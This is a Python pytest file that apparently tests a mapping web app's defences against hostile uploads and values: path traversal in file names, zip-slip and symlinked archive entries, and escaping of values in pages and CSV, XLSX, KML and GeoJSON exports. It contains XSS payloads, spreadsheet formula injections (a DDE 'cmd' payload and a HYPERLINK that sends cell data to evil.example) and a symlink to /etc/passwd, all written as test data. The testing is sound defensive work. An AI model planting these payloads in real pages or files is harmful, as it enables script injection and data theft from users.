"""Hostile files imported by managers (/manage/import, `onemap import`), and hostile text wherever shown.

Proved here:

- an upload's file name (traversal, NUL, Unicode tricks, reserved or 1,000-character names) is stored
  under a safe name inside that upload's own folder, shown escaped, and nothing is written elsewhere;
- a zip archive with an entry leading out of it (`../../evil.shp`, absolute, `..\\`, a drive) or a
  symbolic link is refused with 422 naming the entry, by the pages and the command line; nothing is
  ever extracted (GDAL reads inside the archive);
- a NUL in an imported CSV makes that feature a rejection naming the field, not a 500 (PostgreSQL
  stores no NUL in text);
- hostile attribute values (HTML, `javascript:` URLs, spreadsheet formulas, control characters, an
  RTL override, 10,000 characters) are stored as given and shown as text: escaped on every page,
  JSON strings in the map's data, XML text in KML, printed escaped by the command line; in CSV a value
  a spreadsheet would run as a formula starts with an apostrophe, and in XLSX it is a string cell,
  never a formula. Workers' notes and comments and managers' review comments get the same in report
  exports.
"""

import csv
import io
import json
import re
import stat
import xml.etree.ElementTree as ET
import zipfile
from datetime import UTC, datetime

import geopandas as gpd
import pytest
from click.testing import CliRunner
from markupsafe import escape
from shapely.geometry import Point

from geo import accounts
from geo.access import system_user
from tests.conftest import Auth
from tests.factories import bearer, geojson, report, token_for
from tests.factories import import_zone as zone
from tests.geo.test_io import write_zipped_shapefile
from tests.security.test_hostile_uploads import files
from tests.webapp.test_import_pages import PAGE, confirm, counts, token_of, upload, waiting, zones
from tests.webapp.test_reports_api import post
from webapp.cli import main
from webapp.context import get_uow

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</script><script>alert(2)</script>",
    "javascript:alert(document.cookie)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "村\x01\x07\x1b[31m红字",
    "村\u202etxt.exe",
    "长" * 10_000,
]
MARKUP = [v for v in HOSTILE if "<" in v]
PRINTABLE = [v for v in HOSTILE if v.isprintable()]  # GDAL drops control characters from XML formats
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


# ------------------------------------------------------------------ helpers
def hostile_zones() -> bytes:
    """A GeoJSON of village zones, each with one hostile value as its township and street chief, and as
    its name (the first 300 characters: names are limited, attributes are not)."""
    return geojson(*(zone(f"H{i}", i, name=value[:300], township=value, street_chief=value)
                     for i, value in enumerate(HOSTILE)))


def import_hostile(app, client, auth) -> tuple[str, dict]:
    """The hostile zones imported by a manager: (the preview page, the stored sites by ref)."""
    auth.login_as("manager")
    preview = upload(client, auth, hostile_zones())
    assert preview.status_code == 200, preview.get_data(as_text=True)[:500]
    page = preview.get_data(as_text=True)
    assert confirm(client, auth, page).status_code == 302
    return page, {ref: site for ref, site in zones(app).items() if ref and ref.startswith("H")}


def shows_as_text(html: str, *, shown: bool = True) -> None:
    """No hostile markup in ``html`` as markup; with ``shown``, each is there escaped (shown, not dropped)."""
    for value in MARKUP:
        assert value not in html, value
        if shown:
            assert str(escape(value)) in html, value


def live_formula(cell: str) -> bool:
    """Would a spreadsheet run this CSV cell? (A plain number such as -12.5 is just that number.)"""
    return cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def xlsx_cells(data: bytes) -> list[tuple[str, str]]:
    """Every cell of the first sheet as (type, text): "s" a string cell, "n" a number, "f" a formula.

    Read from the OOXML itself, as a spreadsheet reads it (the types openpyxl calls data_type).
    """
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        strings = [''.join(t.text or "" for t in item.iter(f"{SHEET}t"))
                   for item in ET.fromstring(book.read("xl/sharedStrings.xml"))]
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = []
    for cell in sheet.iter(f"{SHEET}c"):
        kind = "f" if cell.find(f"{SHEET}f") is not None else cell.get("t", "n")
        value = cell.find(f"{SHEET}v")
        text = "" if value is None else value.text or ""
        cells.append((kind, strings[int(text)] if kind == "s" else text))
    return cells


def in_xml(value: str) -> str:
    """``value`` as an XML parser gives it back: control characters dropped, CR read as LF."""
    return "".join(c for c in value if c >= " " or c in "\t\n\r").replace("\r", "\n")


def assert_no_formula_in(fmt: str, data: bytes, expected: list[str]) -> None:
    """No cell of a CSV or XLSX export would run as a formula, and each ``expected`` text is a cell."""
    if fmt == "csv":
        cells = csv_cells(data)
        assert not [c for c in cells if live_formula(c)]
        for value in expected:  # the apostrophe is all that is added
            assert ("'" + value if live_formula(value) else value) in cells, value[:40]
    else:
        cells = xlsx_cells(data)
        assert "f" not in {kind for kind, _ in cells}  # no formula anywhere
        assert all(kind == "s" for kind, text in cells if live_formula(text))
        strings = {text for kind, text in cells if kind == "s"}
        for value in expected:  # stored as it is: a string cell needs no apostrophe
            assert in_xml(value) in strings, value[:40]


# ------------------------------------------------------------------ upload file names
NAMES = [
    ("../../evil.geojson", 200),
    ("..\\..\\evil.geojson", 200),
    ("/etc/onemap-evil.geojson", 200),
    ("村\x00.geojson", 200),
    ("evil.geo\x00json", 422),
    ("村\u202enosjoeg.exe.geojson", 200),
    ("\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fevil.geojson", 200),  # fullwidth ../../
    ("A" * 1000 + ".geojson", 200),
    (".geojson", 422),  # a dot file: no extension
    ("....geojson", 200),
    ("CON.geojson", 200),
    ("<script>alert(1)</script>.geojson", 200),
    ("<script>alert(1)</script>.exe", 422),
]


@pytest.mark.backends("sqlite")
@pytest.mark.parametrize("name, status", NAMES, ids=[repr(n)[:40] for n, _ in NAMES])
def test_an_upload_name_is_stored_safely_inside_its_own_folder(app, client, auth, tmp_path, name, status):
    auth.login_as("manager")
    before = files(tmp_path)
    # a backslash is escaped in the quoted file name, so that the server gets `name` itself
    answer = upload(client, auth, geojson(zone("Z1", 0)), name=name.replace("\\", "\\\\"))
    page = answer.get_data(as_text=True)
    assert answer.status_code == status, page[:500]
    assert "<script>alert(1)</script>" not in page
    new = files(tmp_path) - before
    if status != 200:
        assert new == set() and waiting(app) == []  # refused: nothing kept
        return
    assert "&lt;script&gt;" in page or "<script" not in name  # the name as sent, escaped
    folder = app.config["ONEMAP"].instance / "imports" / token_of(page)
    (kept,) = [p for p in new if p.name != "meta.json"]
    assert new == {folder / "meta.json", kept} and kept.parent == folder / "data"
    assert re.fullmatch(r"[\w.-]+", kept.name) and ".." not in kept.name and not kept.name.startswith(".")
    assert kept.suffix == ".geojson" and len(kept.name) <= 108
    cancelled = client.post(f"{PAGE}/{token_of(page)}/cancel", data={"csrf_token": auth.csrf(PAGE)})
    assert cancelled.status_code == 302 and files(tmp_path) - before == set()


def test_an_upload_named_with_a_nul_is_imported_and_audited_under_its_safe_name(app, client, auth):
    auth.login_as("manager")
    page = upload(client, auth, geojson(zone("Z1", 0)), name="村\x00<b>x.geojson").get_data(as_text=True)
    assert "&lt;b&gt;x" in page and "<b>x" not in page
    assert confirm(client, auth, page).status_code == 302  # PostgreSQL stores no NUL: none reaches it
    with app.app_context(), get_uow() as uow:
        entry = next(e for e in uow.audit.recent(10) if e.action == "sites.import")
    assert entry.detail["file"] == "村_b_x.geojson"


# ------------------------------------------------------------------ zip slip
def zipped_mine(tmp_path, rename, link: str | None = None) -> bytes:
    """A zipped Shapefile of one mine, its entries renamed by ``rename`` (``sites/sites.shp`` → any name);
    with ``link``, its .dbf is a symbolic link to that path instead."""
    mine = gpd.GeoDataFrame([{"ref": "M1", "name": "膨润土矿", "commodity": "bentonite",
                              "geometry": Point(121.1, 41.6)}], geometry="geometry", crs="EPSG:4326")
    folder = tmp_path / f"made-{len(list(tmp_path.glob('made-*')))}"
    folder.mkdir()
    source = write_zipped_shapefile(mine, folder / "mine.zip")
    out = io.BytesIO()
    with zipfile.ZipFile(source) as good, zipfile.ZipFile(out, "w") as archive:
        for entry in good.infolist():
            name = rename(entry.filename)
            if link and name.endswith(".dbf"):
                info = zipfile.ZipInfo(name)
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                archive.writestr(info, link)
            else:
                archive.writestr(name, good.read(entry))
    return out.getvalue()


SLIPS = {
    "../../evil.shp": lambda n: "../../" + n.split("/")[-1],
    "../../../../../../tmp/evil.shp": lambda n: "../../../../../../tmp/" + n.split("/")[-1],
    "/abs/evil.shp": lambda n: "/abs/" + n.split("/")[-1],
    "sites/../../evil.shp": lambda n: n.replace("sites/", "sites/../../"),
    "..\\..\\evil.shp": lambda n: "..\\..\\" + n.split("/")[-1],
    "C:/evil.shp": lambda n: "C:/" + n.split("/")[-1],
}


@pytest.mark.backends("sqlite")
def test_the_zip_builder_makes_an_importable_shapefile(app, client, auth, tmp_path):
    """The control: the same archive with its own entry names is read and would add the mine."""
    auth.login_as("manager")
    page = upload(client, auth, zipped_mine(tmp_path, lambda n: n), name="mine.zip", layer="mines")
    assert page.status_code == 200 and 'data-count="add">1<' in page.get_data(as_text=True)


@pytest.mark.backends("sqlite")
@pytest.mark.parametrize("entry", [*SLIPS, "a .dbf linked to /etc/passwd", "a .dbf linked to ../../x"])
def test_a_zip_entry_leading_out_of_the_archive_is_refused_naming_it(app, client, auth, tmp_path, entry):
    link = entry.removeprefix("a .dbf linked to ") if entry.startswith("a .dbf") else None
    archive = zipped_mine(tmp_path, SLIPS.get(entry, lambda n: n), link=link)
    auth.login_as("manager")
    before = files(tmp_path), counts(app)
    answer = upload(client, auth, archive, name="mine.zip", layer="mines", lang="en")
    page = answer.get_data(as_text=True)
    first = "sites/sites.dbf" if link else zipfile.ZipFile(io.BytesIO(archive)).namelist()[0]
    assert answer.status_code == 422 and f"unsafe entry {escape(repr(first))}" in page, page[:800]
    assert (files(tmp_path), counts(app)) == before and waiting(app) == []
    assert not any(p.is_symlink() for p in tmp_path.rglob("*"))


@pytest.mark.backends("sqlite")
def test_the_command_line_refuses_the_same_archive_in_one_line(app, tmp_path, monkeypatch):
    monkeypatch.setenv("ONEMAP_LANG", "en")
    monkeypatch.setenv("ONEMAP_INSTANCE", str(app.config["ONEMAP"].instance))
    monkeypatch.setenv("ONEMAP_DATABASE_URL", app.config["ONEMAP"].database_url)
    path = tmp_path / "mine.zip"
    path.write_bytes(zipped_mine(tmp_path, SLIPS["../../evil.shp"]))
    before = counts(app)
    written = {p for p in files(tmp_path) if not p.name.startswith("onemap.db")}  # not SQLite's WAL
    result = CliRunner().invoke(main, ["import", str(path), "--layer", "mines"])
    assert result.exit_code != 0 and "unsafe entry '../../sites.cpg'" in result.output
    assert "Traceback" not in result.output
    assert {p for p in files(tmp_path) if not p.name.startswith("onemap.db")} == written
    assert counts(app) == before


# ------------------------------------------------------------------ NUL, lengths and control characters
def test_text_that_a_backend_cannot_store_rejects_that_feature_naming_the_field(app, client, auth):
    """A NUL (a CSV can carry one) or a name over 300 characters: PostgreSQL refuses both, SQLite not."""
    square = "POLYGON (({x} 41.7, {x}1 41.7, {x}1 41.71, {x} 41.7))"
    rows = ["wkt,ref,name,township,key_village",
            f'"{square.format(x=122.1)}",C1,村\x00名,黑山街道,是',
            f'"{square.format(x=122.2)}",C2,好村,黑山街\x00道,是',
            f'"{square.format(x=122.3)}",C3,{"长" * 301},黑山街道,是',
            f'"{square.format(x=122.4)}",{"R" * 201},好村,黑山街道,是',
            f'"{square.format(x=122.5)}",C5,好村,黑山街道,是']
    auth.login_as("manager")
    preview = upload(client, auth, "\n".join(rows).encode(), name="zones.csv", lang="en")
    page = preview.get_data(as_text=True)
    assert preview.status_code == 422  # rejections to read first
    for reason in ("name: contains a NUL character", "township: contains a NUL character",
                   "name: at most 300 characters, not 301", "ref: at most 200 characters, not 201"):
        assert reason in page, reason
    assert confirm(client, auth, page).status_code == 302  # the good feature, skipping the rejected
    assert {ref for ref in zones(app) if ref and ref.startswith("C")} == {"C5"}


@pytest.mark.backends("sqlite")
def test_the_command_line_prints_hostile_names_escaped(app, tmp_path, monkeypatch):
    """An ESC sequence in a name would otherwise recolour, retitle or rewrite the operator's terminal."""
    monkeypatch.setenv("ONEMAP_LANG", "en")
    monkeypatch.setenv("ONEMAP_INSTANCE", str(app.config["ONEMAP"].instance))
    monkeypatch.setenv("ONEMAP_DATABASE_URL", app.config["ONEMAP"].database_url)
    path = tmp_path / "zones.geojson"
    path.write_bytes(hostile_zones())
    dry = CliRunner().invoke(main, ["import", str(path), "--layer", "sanitation_zones", "--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert f"{len(HOSTILE)} to add" in dry.output
    assert not any(c in dry.output for c in "\x1b\x07\x01\r") and "\\u001b[31m" in dry.output


# ------------------------------------------------------------------ hostile attribute values, shown
@pytest.mark.backends("sqlite")  # the pages' and writers' escaping
def test_hostile_attribute_values_are_text_on_every_page(app, client, auth):
    preview, sites = import_hostile(app, client, auth)
    assert len(sites) == len(HOSTILE)
    shows_as_text(preview)  # the manager's preview lists the names
    for site in sites.values():
        page = client.get(f"/sites/{site.id}").get_data(as_text=True)
        assert site.name not in page or site.name == str(escape(site.name))
        ogc = client.get(f"/ogc/collections/sanitation_zones/items/{site.id}?f=html").get_data(as_text=True)
        assert site.name not in ogc or site.name == str(escape(site.name))
    shows_as_text(client.get("/manage/assign").get_data(as_text=True), shown=False)  # names as JSON text
    with app.app_context(), get_uow(write=True) as uow:
        accounts.assign_sites("worker", [s.id for s in sites.values()], uow=uow, user=system_user("test"),
                              now=datetime.now(UTC))
    worker = app.test_client()
    Auth(worker).login_as("worker")
    shows_as_text(worker.get("/my").get_data(as_text=True))
    for site in sites.values():
        shows_as_text(worker.get(f"/my/sites/{site.id}/report").get_data(as_text=True), shown=False)


def test_the_map_data_carries_hostile_values_as_json_strings(app, client, auth):
    _, sites = import_hostile(app, client, auth)
    manager = bearer(app, "manager")
    view = client.get("/api/v1/layers/sanitation_zones/features?bbox=122.09,41.69,122.45,41.72&zoom=14",
                      headers=manager)
    assert view.headers["Content-Type"] == "application/geo+json"
    shown = {f["id"]: f["properties"]["name"] for f in view.get_json()["features"]}
    for site in sites.values():
        assert shown[site.id] == site.name  # the popup gets the text as it is and sets it as text
        one = client.get(f"/api/v1/sites/{site.id}", headers=manager).get_json()["properties"]
        assert one["name"] == site.name and one["street_chief"] in HOSTILE


@pytest.mark.backends("sqlite")  # the pages' and writers' escaping
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_site_exports_turn_no_hostile_value_into_a_formula(app, client, auth, fmt):
    _, sites = import_hostile(app, client, auth)
    answer = client.get(f"/api/v1/export/sanitation_zones.{fmt}?lang=en", headers=bearer(app, "manager"))
    assert answer.status_code == 200
    expected = [site.name for site in sites.values()] + HOSTILE  # names are trimmed; attributes are not
    assert_no_formula_in(fmt, answer.data, expected if fmt == "csv" else PRINTABLE)


@pytest.mark.backends("sqlite")  # the pages' and writers' escaping
def test_geojson_and_kml_exports_keep_hostile_values_as_data(app, client, auth):
    _, sites = import_hostile(app, client, auth)
    manager = bearer(app, "manager")
    exported = client.get("/api/v1/export/sanitation_zones.geojson", headers=manager)
    assert exported.headers["Content-Type"] == "application/geo+json"
    assert exported.headers["Content-Disposition"].startswith("attachment")  # a download, not a page
    properties = {f["id"]: f["properties"] for f in json.loads(exported.data)["features"]}
    for site in sites.values():
        assert properties[site.id]["name"] == site.name
        assert properties[site.id]["street_chief"] == site.attributes["street_chief"]
    kml = client.get("/api/v1/export/sanitation_zones.kml", headers=manager).data
    assert b"<script" not in kml and b"<img" not in kml
    names = {p.findtext("{http://www.opengis.net/kml/2.2}name")
             for p in ET.fromstring(kml).iter("{http://www.opengis.net/kml/2.2}Placemark")}
    assert {site.name for site in sites.values() if site.name.isprintable()} <= names


# ------------------------------------------------------------------ reports: notes, comments, reviews
NOTE = '=HYPERLINK("http://evil.example","<img src=x onerror=alert(1)>")'
COMMENT = "+cmd|' /C calc'!A0"
REVIEW = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.backends("sqlite")  # the pages' and writers' escaping
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_exports_turn_no_note_or_comment_into_a_formula(app, client, auth, fmt):
    _, sites = import_hostile(app, client, auth)
    site = sites["H5"]  # its name is a =HYPERLINK formula too
    manager = bearer(app, "manager")
    checklist = {"swept_clean": "fail", "neatly_stacked": "pass", "ditches_cleared": "pass",
                 "waste_converted": "pass", "comments": {"swept_clean": COMMENT}}
    api = app.test_client()  # no session cookie: a script with a token, which needs no CSRF token
    filed = post(api, site.id, report(site, note=NOTE, checklist=checklist), token=token_for(app, "manager"))
    assert filed.status_code == 201, filed.get_json()
    reviewed = api.post(f"/api/v1/reports/{filed.get_json()['id']}/review", headers=manager,
                           json={"decision": "reject", "comment": REVIEW})
    assert reviewed.status_code == 200, reviewed.get_json()
    assert "<img src=x" not in client.get(f"/sites/{site.id}").get_data(as_text=True)
    answer = client.get(f"/api/v1/export/sanitation_zones/reports.{fmt}?lang=en", headers=manager)
    assert answer.status_code == 200
    assert_no_formula_in(fmt, answer.data, [NOTE, REVIEW, site.name])
